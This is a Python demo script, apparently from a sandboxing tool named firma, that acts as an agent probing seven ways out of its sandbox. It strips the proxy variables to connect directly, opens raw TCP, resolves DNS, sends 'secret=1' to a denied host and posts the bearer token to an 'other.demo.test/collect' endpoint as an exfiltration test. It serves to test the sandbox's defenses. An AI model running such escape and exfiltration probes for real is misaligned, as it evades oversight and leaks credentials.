"""The demo agent: runs inside `firma run` and tries seven ways out. Standard library only.
Usage: agent.py RESULTS_JSON UPSTREAM_PORT SERVICE_PORT HTTPS_PORT"""

import json
import os
import socket
import sys
import urllib.error
import urllib.request

results_path, upstream_port, service_port, https_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
token = os.environ.get("DEMO_TOKEN", "")  # what the agent was given: firma's placeholder
results = {}


def record(key, fn):
    try:
        results[key] = {"ok": True, "detail": fn()}
    except urllib.error.HTTPError as exc:
        body = exc.read().decode(errors="replace")
        try:
            reason = json.loads(body).get("reason")
        except ValueError:
            reason = None
        results[key] = {"ok": False, "status": exc.code, "reason": reason, "detail": f"HTTP {exc.code}"}
    except Exception as exc:
        results[key] = {"ok": False, "detail": f"{type(exc).__name__}: {getattr(exc, 'reason', exc)}"}


def via_proxy(url):
    # urllib honours HTTP_PROXY, which firma points at the sidecar bridge planted in the sandbox.
    with urllib.request.urlopen(url, timeout=5) as r:
        return f"HTTP {r.status} {r.read().decode().strip()!r}"


def direct(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # proxy variables ignored
    with opener.open(url, timeout=5) as r:
        return f"HTTP {r.status}"


def raw_tcp():
    socket.create_connection(("127.0.0.1", service_port), timeout=3).sendall(b"hello db\n")
    return "connected"


def dns():
    return sorted({a[4][0] for a in socket.getaddrinfo("example.com", 443)})


def https(url, data=None):
    # urllib honours HTTPS_PROXY and SSL_CERT_FILE, both set by firma: the TLS is firma's, inspected.
    req = urllib.request.Request(url, data=data, headers={"Authorization": f"Bearer {token}"})
    with urllib.request.urlopen(req, timeout=5) as r:
        return r.read().decode()


record("allowed", lambda: via_proxy(f"http://127.0.0.1:{upstream_port}/v1/hello"))
record("denied", lambda: via_proxy("http://denied.example.com/upload?secret=1"))
record("raw_tcp", raw_tcp)
record("dns", dns)
for k in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
    os.environ.pop(k, None)
record("no_proxy", lambda: direct(f"http://127.0.0.1:{upstream_port}/v1/direct"))
record("token_seen", lambda: token)
record("credential", lambda: https(f"https://api.demo.test:{https_port}/v1/me"))
record("exfiltration", lambda: https(f"https://other.demo.test:{https_port}/collect", data=f"token={token}".encode()))
with open(results_path, "w") as f:
    json.dump(results, f)
